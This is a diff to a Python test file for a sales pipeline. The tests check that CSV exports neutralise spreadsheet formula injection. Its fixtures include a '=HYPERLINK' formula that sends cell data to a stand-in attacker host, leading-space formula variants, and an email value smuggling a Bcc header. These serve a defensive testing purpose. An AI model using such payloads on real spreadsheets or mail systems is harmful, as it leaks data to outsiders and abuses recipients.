@@ -29,7 +29,7 @@ from aiosmtpd.controller import Controller
 
 from blueprint_pipeline.activation import files
 from blueprint_pipeline.activation.files import write_folder
-from blueprint_pipeline.activation.linkedin import persons_of, write_list
+from blueprint_pipeline.activation.linkedin import persons_of, targeting, write_list
 from blueprint_pipeline.config.activation import ContactList, LinkedIn
 from blueprint_pipeline.csv_safety import cell
 from blueprint_pipeline.defs.activation.crm import crm_writeback
@@ -43,6 +43,7 @@ from blueprint_pipeline.journeys.delivery import (
     deliver,
     email_message,
 )
+from blueprint_pipeline.reporting.dashboard import sales_handoff
 from blueprint_pipeline.resources import (
     ActivationResource,
     BlueprintConfigResource,
@@ -55,7 +56,9 @@ from blueprint_pipeline_tests.activation.test_crm import _rows as _crm_rows
 from blueprint_pipeline_tests.activation.test_crm import _tables as _crm_tables
 from blueprint_pipeline_tests.activation.test_linkedin import CONFIG as LINKEDIN_CONFIG
 from blueprint_pipeline_tests.activation.test_linkedin import _build as _linkedin_build
+from blueprint_pipeline_tests.activation.test_linkedin import _tables as _linkedin_tables
 from blueprint_pipeline_tests.journeys.test_delivery import _message, _outbox
+from blueprint_pipeline_tests.reporting.test_dashboard import more_tables
 
 INJECTED = "Orion Labs\r\nBcc: a@evil.example"
 
@@ -226,6 +229,10 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Mary")'
         ("\tTAB", '"\'\tTAB"'),
         ("\rCR", '"\'\rCR"'),
         ("-5", "-5"),  # a number is data: a spreadsheet reads it as the number it is
+        (" =1+1", '"\' =1+1"'),  # an importer may trim the space: neutralised too
+        ("\u00a0\n@SUM(A1)", '"\'\u00a0\n@SUM(A1)"'),
+        (" -5 ", " -5 "),
+        ("\t-5", '"\'\t-5"'),
         (-5.5, "-5.5"),
         ("+49", "+49"),
         ("Mary, Jane", '"Mary, Jane"'),
@@ -505,3 +512,34 @@ def test_where_folders_cannot_be_exchanged_the_folder_is_still_replaced_whole(tm
     write_folder(folder, {"b.csv": b"b\n"}, {})
     assert sorted(p.name for p in folder.iterdir()) == ["b.csv", "manifest.json"]
     assert sorted(p.name for p in folder.parent.iterdir()) == ["20260302T000000"]
+
+
+def test_formulas_are_neutralised_in_the_sales_handoff(warehouse, tmp_path):
+    """An account name `=HYPERLINK(...)` of a qualified group, and one with a space in front (a
+    spreadsheet importer may trim it): the sales hand-off, which sales open in a spreadsheet,
+    holds them as text."""
+    tables = more_tables()
+    tables["unified_accounts"]["account_name"] = ["Acme", f" {HYPERLINK}", HYPERLINK]
+    with warehouse.transaction() as session:
+        for name, frame in tables.items():
+            session.replace_table(name, frame)
+        config = BlueprintConfigResource(config_dir=str(tmp_path)).loaded.config
+        written = sales_handoff(session, config)
+    rows = list(csv.reader(io.StringIO(written.decode())))
+    assert [(r[0], r[1]) for r in rows[1:]] == [("'" + HYPERLINK, "A3"), ("' " + HYPERLINK, "A2")]
+
+
+def test_formulas_are_neutralised_in_the_linkedin_targeting_file(warehouse):
+    """The account name of a group missing roles reaches targeting.csv: neutralised there too."""
+    tables = _linkedin_tables(["A1", "A2", "A3"])
+    tables["unified_accounts"]["account_name"] = ["A", "B", HYPERLINK, "D"]
+    tables["buying_groups"]["missing_required_roles"] = ["", "", "Champion"]
+    with warehouse.transaction() as session:
+        for name, frame in tables.items():
+            session.replace_table(name, frame)
+        settings = LinkedIn(role_targeting={"Champion": {"job_functions": ["=1+1"], "seniorities": ["@x"]}})
+        written = targeting(session, "data_platform", settings)
+    assert list(csv.reader(io.StringIO(written.decode()))) == [
+        ["account_id", "company", "missing_roles", "job_functions", "seniorities"],
+        ["A3", "'" + HYPERLINK, "Champion", "'=1+1", "'@x"],
+    ]
